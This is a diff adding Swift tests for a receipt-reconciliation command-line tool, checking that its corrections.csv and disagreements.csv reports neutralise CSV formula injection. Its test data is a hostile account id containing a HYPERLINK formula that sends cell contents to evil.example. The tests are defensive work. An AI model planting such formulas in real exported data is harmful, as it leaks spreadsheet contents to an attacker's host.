@@ -1,5 +1,6 @@
 import CivilCalendar
 import Foundation
+import Postgres
 import Testing
 import TestSupport
 
@@ -38,6 +39,37 @@ import TestSupport
             let failures = try String(contentsOf: try #require(try world.lastReportDirectory()).appending(path: "failures.csv"), encoding: .utf8)
             #expect(failures.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""refund"")""#))
             #expect(!failures.contains("\r\n\"=HYPERLINK") && !failures.contains("\r\n=HYPERLINK"))
+        }
+    }
+
+    /// corrections.csv, written by a run from the command line: the hostile account's grant is
+    /// there, its id a quoted text cell starting with `'`.
+    @Test func theRunsCorrectionsCSVNeverCarriesAFormula() async throws {
+        try await RunWorld.with("csv-corrections") { world in
+            try await world.addReceipt(Self.hostileAccount, spec: ["generate": ["subscriptions": [world.subscription(original: "77", endDays: 10)]]])
+            let result = try await CLIProcess.run(["run", "--report-dir", world.reportRoot.path], environment: OperationsTests.environment(world))
+            #expect(result.status == 0)
+            let corrections = try String(contentsOf: world.reportRoot.appending(path: "corrections.csv"), encoding: .utf8)
+            let row = try #require(corrections.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") }, "\(corrections)")
+            #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""refund"")",pro.monthly,grant,"#), "\(row)")
+        }
+    }
+
+    /// disagreements.csv (`--source both`), from the command line: where the API and verifyReceipt
+    /// disagree about the hostile account, its id is a text cell.
+    @Test func theRunsDisagreementsCSVNeverCarriesAFormula() async throws {
+        try await CommandLineContractTests.withAPIWorld("csv-disagreements", disagreements: ["30000": ["refund": true]]) { world, key in
+            for table in ["iap.app_receipts", "iap.entitlements"] {
+                try await world.connection.execute(PostgresQuery(
+                    unsafeSQL: "UPDATE \(table) SET account_id = $1 WHERE account_id = 'acct-00000'", binds: [PostgresBind(Self.hostileAccount)]))
+            }
+            let result = try await CLIProcess.run(
+                ["run"] + CommandLineContractTests.apiFlags(world, key: key) + ["--source", "both", "--report-dir", world.reportRoot.path],
+                environment: OperationsTests.environment(world))
+            #expect(result.status == 0, "\(result.stderr.suffix(1000))")
+            let disagreements = try String(contentsOf: world.reportRoot.appending(path: "disagreements.csv"), encoding: .utf8)
+            let row = try #require(disagreements.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") }, "\(disagreements)")
+            #expect(row.hasPrefix(#""'=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#), "\(row)")
         }
     }
 }
